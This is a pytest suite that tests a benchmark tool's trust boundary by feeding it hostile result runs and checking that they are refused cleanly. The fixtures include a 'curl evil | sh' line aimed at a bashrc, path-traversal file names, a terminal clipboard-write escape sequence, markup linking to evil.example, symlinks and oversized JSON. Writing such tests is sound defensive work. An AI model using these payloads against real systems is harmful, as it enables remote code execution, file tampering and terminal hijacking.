"""Attacks on the trust boundary, one row each, against both stores.

A hostile run is built by writing its files straight into the store (the local directory,
or the real fake-gcs-server) and its row into the registry, as a compromised VM or anyone
with bucket access could. Every row must end with its documented exit code, write nothing
anywhere but results/<run id>/ (the whole tmp tree is compared before and after), and
print no control character.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from orchestrator.boundary import LIMITS
from orchestrator.cli import main
from orchestrator.config import load_config
from orchestrator.registry import RunRecord
from orchestrator.service.context import Context
from orchestrator.service.plans import plans_dir
from orchestrator.spec import new_run_id
from results_schema import CorrectnessRow, Measurement, Plan, ProfileRow, SummaryRow
from results_schema.csvio import cell, columns
from results_schema.record import MAX_PROFILE_REPORTS

pytestmark = pytest.mark.timeout(120)

STORES = ["local", "gce"]
# OSC 52 (clipboard write), a screen clear, BEL, a C1 CSI, DEL, a bidi override, rich
# markup that would crash ("[/]") or lie (a link), an emoji code, a line break.
HOSTILE = (
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J[bold red]boom[/] [/] "
    "[link=https://evil.example]ok[/link] \x9b31m\x7f\u202e:bomb: \r\nnext"
)
FORBIDDEN = ["\x1b", "\x07", "\x7f", *(chr(c) for c in range(0x80, 0xA0))]


@dataclass
class HostileRun:
    """A run's files as they will be put into the store; a row's mutation edits them."""

    run_id: str
    backend: str
    outside: Path  # where an escaping write would land
    plan: dict
    files: dict[str, bytes]  # relative path -> content
    manifest: dict = field(default_factory=dict)
    manifest_raw: bytes | None = None  # replaces the JSON dump of `manifest`
    status_raw: bytes | None = None
    links: dict[str, Path] = field(default_factory=dict)  # local store: path -> link target


def entry(path: str, data: bytes, rows: int | None) -> dict:
    return {
        "path": path,
        "sha256": hashlib.sha256(data).hexdigest(),
        "bytes": len(data),
        "rows": rows,
    }


def csv_bytes(model, rows: list) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns(model))
    for row in rows:
        writer.writerow([cell(getattr(row, f)) for f in columns(model)])
    return out.getvalue().encode()


def build_run(run_id: str, backend: str, outside: Path, names: str = "", samples: int = 3):
    """A valid complete run; `names` is added to every string the payload writes."""
    plan = json.loads((plans_dir() / "cpu-smoke.json").read_text())
    plan["configs"] = plan["configs"][:2]
    plan["samples_per_config"] = samples
    if names:
        plan["description"] = names
        plan["candidate"] = f"cand{names}"
        plan["compared_with"] = [f"base{names}"]
        if plan.get("control"):
            plan["control"] = plan["candidate"]
        for index, config in enumerate(plan["configs"]):
            config["name"] = f"{names}-{index}"
    implementations = Plan.model_validate(plan).implementations
    now = datetime.now(timezone.utc)
    measurements, summary, correctness = [], [], []
    for config in plan["configs"]:
        for impl in implementations:
            for sample in range(samples):
                measurements.append(
                    Measurement(
                        run_id=run_id,
                        config=config["name"],
                        implementation=impl,
                        mode="single",
                        round=sample,
                        calls=1,
                        latency_ms=1.0 + 0.1 * sample,
                        timestamp=now,
                    )
                )
            speedup = (
                {}
                if impl == plan["candidate"]
                else {
                    "speedup": 1.2,
                    "speedup_ci_low": 1.1,
                    "speedup_ci_high": 1.3,
                    "verdict": "faster",
                }
            )
            summary.append(
                SummaryRow(
                    run_id=run_id,
                    config=config["name"],
                    implementation=impl,
                    backend=f"math{names}",
                    mode="single",
                    n=samples,
                    median_ms=1.1,
                    p10_ms=1.0,
                    p90_ms=1.2,
                    mean_ms=1.1,
                    std_ms=0.1,
                    iqr_over_median=0.1,
                    tflops=0.5,
                    **speedup,
                )
            )
            correctness.append(
                CorrectnessRow(
                    run_id=run_id,
                    config=config["name"],
                    implementation=impl,
                    backend=f"math{names}",
                    passed=True,
                    rel_l2_error=0.001,
                    message=names,
                )
            )
    files = {
        "results/measurements.csv": csv_bytes(Measurement, measurements),
        "results/summary.csv": csv_bytes(SummaryRow, summary),
        "results/correctness.csv": csv_bytes(CorrectnessRow, correctness),
        # The checks of outputs from the timed loop have the correctness rows' shape.
        "results/timed_checks.csv": csv_bytes(CorrectnessRow, correctness),
    }
    rate = 0.5 if backend == "gce" else 0.0
    manifest = {
        "schema_version": "1",
        "run_id": run_id,
        "status": "complete",
        "reason": names,
        "started_at": (now - timedelta(minutes=2)).isoformat(),
        "finished_at": (now - timedelta(minutes=1)).isoformat(),
        "phases": [{"name": "benchmark", "seconds": 30.0, "exit_code": 0}],
        "plan": plan,
        "environment": {"gpu_name": f"gpu{names}", "torch": names, "extra_key": names},
        "kernel_build": {
            "source_sha256": names or "0" * 64,
            "arch": names or "cpu",
            "flags": [names],
            "seconds": 1.0,
            "cached": False,
        },
        "cost": {
            "backend": backend,
            "rate_usd_per_hour": rate,
            "budget_usd": 1.0,
            "max_run_seconds": 3600,
            "estimated_usd": rate * 2 / 60,
        },
        "files": [
            entry(path, files[path], len(rows))
            for path, rows in (
                ("results/measurements.csv", measurements),
                ("results/summary.csv", summary),
                ("results/correctness.csv", correctness),
                ("results/timed_checks.csv", correctness),
            )
        ],
    }
    status = {
        "run_id": run_id,
        "phase": "finish",
        "state": "complete",
        "done": 0,
        "total": 0,
        "updated_at": now.isoformat(),
        "message": names,
    }
    run = HostileRun(run_id, backend, outside, plan, files, manifest)
    run.status_raw = json.dumps(status).encode()
    return run


def publish(ctx: Context, run: HostileRun, created: datetime) -> None:
    """Put the run where a VM would have, and its row where launch would have."""
    store = ctx.store(run.backend)
    prefix = f"runs/{run.run_id}"
    for path, data in run.files.items():
        if path in run.links:
            continue
        try:
            store.put_bytes(f"{prefix}/{path}", data)
        except Exception:  # noqa: BLE001 - a key the store itself refuses: the attack is the manifest
            pass
    raw = run.manifest_raw if run.manifest_raw is not None else json.dumps(run.manifest).encode()
    store.put_bytes(f"{prefix}/manifest.json", raw)
    store.put_bytes(f"{prefix}/status.json", run.status_raw)
    for path, target in run.links.items():
        link = ctx.local_store_root() / prefix / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.unlink(missing_ok=True)
        link.symlink_to(target)
    ctx.registry.add(
        RunRecord(
            run_id=run.run_id,
            backend=run.backend,
            plan=run.plan["name"],
            budget_usd=1.0,
            rate_usd_per_hour=run.manifest.get("cost", {}).get("rate_usd_per_hour", 0.0)
            if run.backend == "gce"
            else 0.0,
            max_run_seconds=3600,
            estimated_seconds=600,
            created_at=created.isoformat(),
            spot=run.backend == "gce",
            state="running",
        )
    )


@pytest.fixture
def bench(request, bench_env, monkeypatch):
    """bench on one store; gce points at the session's fake-gcs-server (no VM is asked)."""
    if request.param == "gce":
        gcs_server = request.getfixturevalue("gcs_server")
        bucket = request.getfixturevalue("gcs_bucket")
        monkeypatch.setenv("BENCH_PROJECT", "bench-test-project")
        monkeypatch.setenv("BENCH_BUCKET", bucket)
        monkeypatch.setenv("BENCH_STORAGE_ENDPOINT", gcs_server.endpoint)
        # fetch asks Compute to delete the run's finished VM (here: there is none).
        compute = request.getfixturevalue("compute_server")
        monkeypatch.setenv("BENCH_COMPUTE_ENDPOINT", compute.endpoint)
        monkeypatch.setenv("BENCH_ZONES", "us-central1-a")
    return request.param


def snapshot(root: Path) -> dict[str, tuple]:
    seen = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            # A folder's own mtime moves whenever a file in it comes or goes: compare its
            # entries, not it.
            is_dir = name in dirnames and not path.is_symlink()
            key = (st.st_mode,) if is_dir else (st.st_mode, st.st_size, st.st_mtime_ns)
            seen[str(path.relative_to(root))] = key
    return seen


def changed_outside(before: dict, after: dict, allowed: list[str]) -> list[str]:
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    return sorted(k for k in changed if not any(k == a or k.startswith(a + "/") for a in allowed))


def clean(text: str) -> bool:
    return not any(ch in text for ch in FORBIDDEN)


def run_cli(capsys, *args) -> tuple[int, str]:
    capsys.readouterr()
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out + captured.err


# --- the attacks -------------------------------------------------------------------------
# Each mutation turns a valid run into a hostile one. `fetch`: the exit code of
# `bench fetch`; `status`: of `bench status` (5 where the manifest or heartbeat is refused).


def _entry_for(run: HostileRun, path: str, data: bytes) -> None:
    run.files[path] = data
    run.manifest["files"].append(entry(path, data, None))


def absolute_path(run):
    _entry_for(run, str(run.outside / "bashrc"), b"curl evil | sh\n")


def dotdot_path(run):
    _entry_for(run, "../../bench.toml", b'state_dir = "/tmp/evil"\n')


def dotdot_inside_results(run):
    _entry_for(run, "results/../../../outside.csv", b"x\n")


def control_chars_in_path(run):
    _entry_for(run, "results/summary.csv\x1b]52;c;ZXZpbA==\x07", b"x\n")


def duplicate_entry(run):
    run.manifest["files"].append(dict(run.manifest["files"][1]))


def unknown_file(run):
    _entry_for(run, "results/extra.csv", b"run_id\nx\n")


def markup_reason(run):
    run.manifest["reason"] = "oops [/] " + HOSTILE


def deep_manifest(run):
    run.manifest_raw = b"[" * 100_000 + b"]" * 100_000


def deep_inside_manifest(run):
    run.manifest["environment"]["extra_key"] = json.loads("[" * 40 + "]" * 40)


def deep_status(run):
    run.status_raw = b'{"a":' * 50_000 + b"1" + b"}" * 50_000


def duplicate_json_keys(run):
    text = json.dumps(run.manifest)
    run.manifest_raw = ('{"status": "failed", ' + text[1:]).encode()


def nan_cost(run):
    run.manifest["cost"]["estimated_usd"] = float("nan")  # json.dumps writes NaN


def infinite_cost(run):
    run.manifest["cost"]["estimated_usd"] = float("inf")


def negative_cost(run):
    run.manifest["cost"]["estimated_usd"] = -100.0


def cost_beyond_the_cap(run):
    run.manifest["cost"]["estimated_usd"] = 1e300


def other_rate(run):
    run.manifest["cost"]["rate_usd_per_hour"] = 0.0001


def finished_before_launch(run):
    run.manifest["finished_at"] = "2000-01-01T00:00:00+00:00"
    run.manifest["started_at"] = "2000-01-01T00:00:00+00:00"


def finished_in_the_future(run):
    run.manifest["finished_at"] = "2099-01-01T00:00:00+00:00"


def naive_timestamp(run):
    run.manifest["finished_at"] = "2026-11-23T05:00:00"


def other_run_id(run):
    run.manifest["run_id"] = "20200101-000000-aaaaaa"


def complete_without_files(run):
    run.manifest["files"] = []


def partial_without_measurements(run):
    run.manifest["status"] = "partial"
    run.manifest["files"] = [e for e in run.manifest["files"] if "measure" not in e["path"]]


def negative_rows(run):
    run.manifest["files"][0]["rows"] = -1


def huge_reason(run):
    run.manifest["reason"] = "x" * (LIMITS.manifest_bytes + 10)


def long_string(run):
    run.manifest["reason"] = "x" * (LIMITS.string_chars + 1)


def many_configs(run):
    base = run.manifest["plan"]["configs"][0]
    run.manifest["plan"]["configs"] = [{**base, "name": f"c{i}"} for i in range(LIMITS.configs + 1)]


def huge_integer(run):
    text = json.dumps(run.manifest).replace('"schema_version": "1"', '"x": ' + "9" * 5000, 1)
    run.manifest_raw = text.encode()


def utf16_manifest(run):
    run.manifest_raw = json.dumps(run.manifest).encode("utf-16")


def bad_utf8_status(run):
    run.status_raw = b'{"run_id": "\xff\xfe"}'


def status_of_other_run(run):
    status = json.loads(run.status_raw)
    status["run_id"] = "20200101-000000-aaaaaa"
    run.status_raw = json.dumps(status).encode()


def negative_status_count(run):
    status = json.loads(run.status_raw)
    status["done"] = -5
    run.status_raw = json.dumps(status).encode()


def _rewrite_csv(run, path: str, edit: Callable[[list[list[str]]], None], keep_rows=True):
    rows = list(csv.reader(io.StringIO(run.files[path].decode(), newline="")))
    edit(rows)
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode()
    run.files[path] = data
    for e in run.manifest["files"]:
        if e["path"] == path:
            e.update(entry(path, data, len(rows) - 1 if keep_rows else e["rows"]))


def _set_cell(run, path, column, value, line=1):
    def edit(rows):
        rows[line][rows[0].index(column)] = value

    _rewrite_csv(run, path, edit)


def nan_median(run):
    _set_cell(run, "results/summary.csv", "median_ms", "nan")


def infinite_speedup(run):
    _set_cell(run, "results/summary.csv", "speedup", "inf", line=2)


def negative_latency(run):
    _set_cell(run, "results/measurements.csv", "latency_ms", "-1.0")


def rows_of_other_run(run):
    _set_cell(run, "results/measurements.csv", "run_id", "20200101-000000-aaaaaa")


def naive_sample_time(run):
    _set_cell(run, "results/measurements.csv", "timestamp", "2026-11-23T05:00:00")


def long_csv_cell(run):
    _set_cell(run, "results/correctness.csv", "message", "y" * (LIMITS.string_chars + 1))


def csv_with_nul(run):
    _set_cell(run, "results/correctness.csv", "message", "a\0b")


def csv_not_utf8(run):
    data = run.files["results/correctness.csv"] + b"\xff\xfe\n"
    run.files["results/correctness.csv"] = data
    run.manifest["files"][2].update(entry("results/correctness.csv", data, None))


def csv_with_bom(run):
    data = b"\xef\xbb\xbf" + run.files["results/summary.csv"]
    run.files["results/summary.csv"] = data
    run.manifest["files"][1].update(entry("results/summary.csv", data, None))


def rows_miscounted(run):
    run.manifest["files"][0]["rows"] += 1


def claims_128_mb(run):
    run.manifest["files"][0]["bytes"] = 128 << 20


def larger_than_claimed(run):
    """The object holds 2 MB more than the manifest says: the download stops at the claim."""
    run.files["results/measurements.csv"] += b"9" * (2 << 20)


def sha_mismatch(run):
    run.files["results/summary.csv"] += b"\n"


def symlinked_result(run):
    secret = run.outside / "secret.csv"
    secret.write_bytes(run.files["results/correctness.csv"])
    run.links["results/correctness.csv"] = secret


def symlinked_manifest(run):
    """Only the link lives in the store; the manifest it points at is valid."""
    target = run.outside / "manifest.json"
    target.write_text(json.dumps(run.manifest))
    run.links["manifest.json"] = target
    run.manifest_raw = b"{}"  # what publish writes first, then replaces with the link


# A report is Nsight Compute's binary: any bytes, control characters included.
REPORT_BYTES = b"NVPROF\x00\x1b]52;c;ZXZpbA==\x07" + bytes(range(256)) * 4


def profile_rows(run: HostileRun, run_id: str | None = None) -> bytes:
    rows = [
        ProfileRow(
            run_id=run_id or run.run_id,
            config=config["name"],
            implementation=run.plan["candidate"],
            state="profiled",
            report=f"profile-{index:03d}.ncu-rep",
            kernels=1,
            kernel=f"flash_fwd_kernel{HOSTILE}",
            duration_us=12.5,
            sm_throughput_pct=40.0,
            registers_per_thread=255,
            top_stalls=f"wait:1.5;{HOSTILE}",
        )
        for index, config in enumerate(run.plan["configs"])
    ]
    return csv_bytes(ProfileRow, rows)


def with_profile(run: HostileRun, reports: int = 2, report_bytes: bytes = REPORT_BYTES) -> None:
    data = profile_rows(run)
    run.files["results/profile.csv"] = data
    run.manifest["files"].append(entry("results/profile.csv", data, len(run.plan["configs"])))
    for index in range(reports):
        _entry_for(run, f"results/profile-{index:03d}.ncu-rep", report_bytes)


def unnumbered_report(run):
    _entry_for(run, "results/evil.ncu-rep", REPORT_BYTES)


def report_outside_results(run):
    _entry_for(run, "profile-000.ncu-rep", REPORT_BYTES)


def report_with_rows(run):
    with_profile(run, reports=1)
    run.manifest["files"][-1]["rows"] = 3


def report_claims_33_mb(run):
    with_profile(run, reports=1)
    run.manifest["files"][-1]["bytes"] = 33 << 20


def too_many_reports(run):
    with_profile(run, reports=MAX_PROFILE_REPORTS + 1, report_bytes=b"x")


def report_sha_mismatch(run):
    with_profile(run, reports=1)
    run.files["results/profile-000.ncu-rep"] = REPORT_BYTES[:-1] + b"!"


def profile_rows_of_other_run(run):
    with_profile(run, reports=0)
    data = profile_rows(run, run_id="20200101-000000-000000")
    run.files["results/profile.csv"] = data
    run.manifest["files"][-1] = entry("results/profile.csv", data, len(run.plan["configs"]))


@dataclass(frozen=True)
class Attack:
    mutate: Callable[[HostileRun], None]
    fetch: int
    status: int
    stores: tuple[str, ...] = ("local", "gce")


ATTACKS = [
    Attack(absolute_path, 5, 5),
    Attack(dotdot_path, 5, 5),
    Attack(dotdot_inside_results, 5, 5),
    Attack(control_chars_in_path, 5, 5),
    Attack(duplicate_entry, 5, 5),
    Attack(unknown_file, 5, 5),
    Attack(markup_reason, 0, 0),
    Attack(deep_manifest, 5, 5),
    Attack(deep_inside_manifest, 5, 5),
    Attack(deep_status, 0, 5),
    Attack(duplicate_json_keys, 5, 5),
    Attack(nan_cost, 5, 5),
    Attack(infinite_cost, 5, 5),
    Attack(negative_cost, 5, 5),
    Attack(cost_beyond_the_cap, 5, 5),
    Attack(other_rate, 5, 5, stores=("gce",)),
    Attack(finished_before_launch, 5, 5),
    Attack(finished_in_the_future, 5, 5),
    Attack(naive_timestamp, 5, 5),
    Attack(other_run_id, 5, 5),
    Attack(complete_without_files, 5, 5),
    Attack(partial_without_measurements, 5, 5),
    Attack(negative_rows, 5, 5),
    Attack(huge_reason, 5, 5),
    Attack(long_string, 5, 5),
    Attack(many_configs, 5, 5),
    Attack(huge_integer, 5, 5),
    Attack(utf16_manifest, 5, 5),
    Attack(bad_utf8_status, 0, 5),
    Attack(status_of_other_run, 0, 5),
    Attack(negative_status_count, 0, 5),
    Attack(nan_median, 5, 0),
    Attack(infinite_speedup, 5, 0),
    Attack(negative_latency, 5, 0),
    Attack(rows_of_other_run, 5, 0),
    Attack(naive_sample_time, 5, 0),
    Attack(long_csv_cell, 5, 0),
    Attack(csv_with_nul, 5, 0),  # a NUL in a CSV cell is refused: spreadsheets and C cut at it
    Attack(csv_not_utf8, 5, 0),
    Attack(csv_with_bom, 5, 0),
    Attack(rows_miscounted, 5, 0),
    Attack(claims_128_mb, 5, 5),
    Attack(larger_than_claimed, 5, 0),
    Attack(sha_mismatch, 5, 0),
    Attack(symlinked_result, 5, 0, stores=("local",)),
    Attack(symlinked_manifest, 5, 5, stores=("local",)),
    Attack(unnumbered_report, 5, 5),
    Attack(report_outside_results, 5, 5),
    Attack(report_with_rows, 5, 5),
    Attack(report_claims_33_mb, 5, 5),
    Attack(too_many_reports, 5, 5),
    Attack(report_sha_mismatch, 5, 0),
    Attack(profile_rows_of_other_run, 5, 0),
]


def attack_cases():
    for attack in ATTACKS:
        for store in attack.stores:
            yield pytest.param(store, attack, id=f"{store}-{attack.mutate.__name__}")


@pytest.mark.parametrize(("bench", "attack"), list(attack_cases()), indirect=["bench"])
def test_attack(bench, attack, bench_env, capsys):
    outside = bench_env / "outside"
    outside.mkdir()
    ctx = Context(load_config())
    run = build_run(new_run_id(), bench, outside)
    attack.mutate(run)
    publish(ctx, run, created=datetime.now(timezone.utc) - timedelta(minutes=5))
    dest = bench_env / "work" / "results"
    before = snapshot(bench_env)

    status_code, status_out = run_cli(capsys, "status")
    fetch_code, fetch_out = run_cli(capsys, "fetch", run.run_id, "--dest", str(dest))

    assert (fetch_code, status_code) == (attack.fetch, attack.status), fetch_out + status_out
    assert clean(status_out) and clean(fetch_out), repr(status_out + fetch_out)
    if attack.fetch or attack.status:
        error_lines = [
            line for line in (status_out + fetch_out).splitlines() if "bench: error" in line
        ]
        assert error_lines and all(run.run_id in line for line in error_lines), error_lines
    after = snapshot(bench_env)
    allowed = ["state/runs.sqlite", "state/runs.sqlite-journal", "work/results"]
    if attack.fetch == 0:
        allowed.append(f"work/results/{run.run_id}")
    assert changed_outside(before, after, allowed) == []
    # results/ itself may appear, but holds nothing but the run's own folder (and the
    # .gitignore that keeps it out of a kernel repository's tree: paths.mark_as_outputs).
    assert {k for k in after if k.startswith("work/results/")} <= {
        k for k in after if k.startswith(f"work/results/{run.run_id}")
    } | {"work/results/.gitignore"}
    assert not list(dest.glob(".staging-*")), "a staging folder was left behind"
    if attack.fetch:
        assert not (dest / run.run_id).exists(), "a refused run left files in results/"


# --- a run whose every string holds escapes and markup -----------------------------------


@pytest.mark.filterwarnings("error:Glyph")  # a control character reached a plot label
@pytest.mark.parametrize("bench", STORES, indirect=True)
def test_every_command_shows_hostile_strings_as_text(bench, bench_env, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "200")
    ctx = Context(load_config())
    run = build_run(new_run_id(), bench, bench_env, names=HOSTILE)
    publish(ctx, run, created=datetime.now(timezone.utc) - timedelta(minutes=5))
    if bench == "local":
        log = ctx.paths.sandbox(run.run_id) / "logs" / "startup.log"
        log.parent.mkdir(parents=True)
        log.write_text(f"[bench 05:00:00] {HOSTILE}\n" * 3)
    dest = str(bench_env / "results")
    commands = [
        ["status"],
        ["status", run.run_id],
        ["fetch", run.run_id, "--dest", dest],
        ["report", run.run_id, "--dest", dest],
    ]
    if bench == "local":
        commands.append(["logs", run.run_id])
    for command in commands:
        code, out = run_cli(capsys, *command)
        assert code == 0, (command, out)
        assert clean(out), (command, repr(out))
        assert "\\x1b" in out or command[0] == "report", (command, out)  # shown, escaped
    assert "[/]" in run_cli(capsys, "status")[1]  # markup printed as text, not interpreted


@pytest.mark.parametrize("bench", STORES, indirect=True)
def test_status_lists_every_run_and_fails_naming_the_invalid_one(bench, bench_env, capsys):
    ctx = Context(load_config())
    created = datetime.now(timezone.utc) - timedelta(minutes=5)
    good = build_run(new_run_id(), bench, bench_env)
    publish(ctx, good, created)
    bad = build_run(good.run_id[:-6] + "bad000", bench, bench_env)
    deep_manifest(bad)
    publish(ctx, bad, created)
    code, out = run_cli(capsys, "status")
    assert code == 5
    assert good.run_id in out and bad.run_id in out
    (error,) = [line for line in out.splitlines() if line.startswith("bench: error")]
    assert bad.run_id in error and good.run_id not in error


@pytest.mark.parametrize("bench", STORES, indirect=True)
def test_a_staging_folder_left_by_a_killed_fetch_is_removed_by_the_next(bench, bench_env, capsys):
    ctx = Context(load_config())
    run = build_run(new_run_id(), bench, bench_env)
    publish(ctx, run, datetime.now(timezone.utc) - timedelta(minutes=5))
    dest = bench_env / "results"
    leftover = dest / f".staging-{run.run_id}" / "results"
    leftover.mkdir(parents=True)
    (leftover / "measurements.csv").write_text("half a file")
    assert run_cli(capsys, "fetch", run.run_id, "--dest", str(dest))[0] == 0
    assert sorted(p.name for p in dest.iterdir()) == [".gitignore", run.run_id]


@pytest.mark.parametrize("bench", STORES, indirect=True)
def test_a_staging_symlink_is_not_followed(bench, bench_env, capsys):
    """A link planted where fetch stages points outside: fetch must not write through it."""
    ctx = Context(load_config())
    run = build_run(new_run_id(), bench, bench_env)
    publish(ctx, run, datetime.now(timezone.utc) - timedelta(minutes=5))
    dest, outside = bench_env / "results", bench_env / "outside"
    dest.mkdir()
    outside.mkdir()
    (dest / f".staging-{run.run_id}").symlink_to(outside)
    assert run_cli(capsys, "fetch", run.run_id, "--dest", str(dest))[0] == 0
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("bench", STORES, indirect=True)
def test_a_default_plan_sized_run_fetches_within_the_limits(bench, bench_env, capsys):
    """12 configs × 50 samples × 3 implementations, as the default plan measures."""
    plan = json.loads((plans_dir() / "default.json").read_text())
    ctx = Context(load_config())
    run = build_run(new_run_id(), bench, bench_env, samples=plan["samples_per_config"])
    rows = run.manifest["files"][0]["rows"]
    publish(ctx, run, datetime.now(timezone.utc) - timedelta(minutes=5))
    assert run_cli(capsys, "fetch", run.run_id, "--dest", str(bench_env / "results"))[0] == 0
    full = len(plan["configs"]) * plan["samples_per_config"] * (1 + len(plan["compared_with"]))
    assert rows * len(plan["configs"]) // 2 == full  # this run is 2 of its 12 configs
    # Every limit holds the whole default plan a hundred times over.
    assert LIMITS.rows_of("measurements.csv") >= 100 * full
    assert LIMITS.bytes_of("measurements.csv") >= 100 * full * 250  # a row is ≈ 200 bytes
    assert LIMITS.configs >= 10 * len(plan["configs"])


@pytest.mark.parametrize("bench", STORES, indirect=True)
def test_a_profiled_run_brings_its_reports_back_byte_for_byte(
    bench, bench_env, capsys, monkeypatch
):
    """profile.csv is checked row by row; the reports only by size and sha256, never parsed;
    `report` prints the counters side by side, escaped."""
    monkeypatch.setenv("COLUMNS", "400")
    ctx = Context(load_config())
    run = build_run(new_run_id(), bench, bench_env)
    with_profile(run)
    publish(ctx, run, datetime.now(timezone.utc) - timedelta(minutes=5))
    dest = bench_env / "results"
    code, out = run_cli(capsys, "fetch", run.run_id, "--dest", str(dest))
    assert code == 0, out
    results = dest / run.run_id / "results"
    assert (results / "profile-001.ncu-rep").read_bytes() == REPORT_BYTES
    code, out = run_cli(capsys, "report", run.run_id, "--dest", str(dest))
    assert code == 0 and clean(out), out
    assert "Nsight Compute" in out and "profile-001.ncu-rep" in out and "wait:1.5" in out
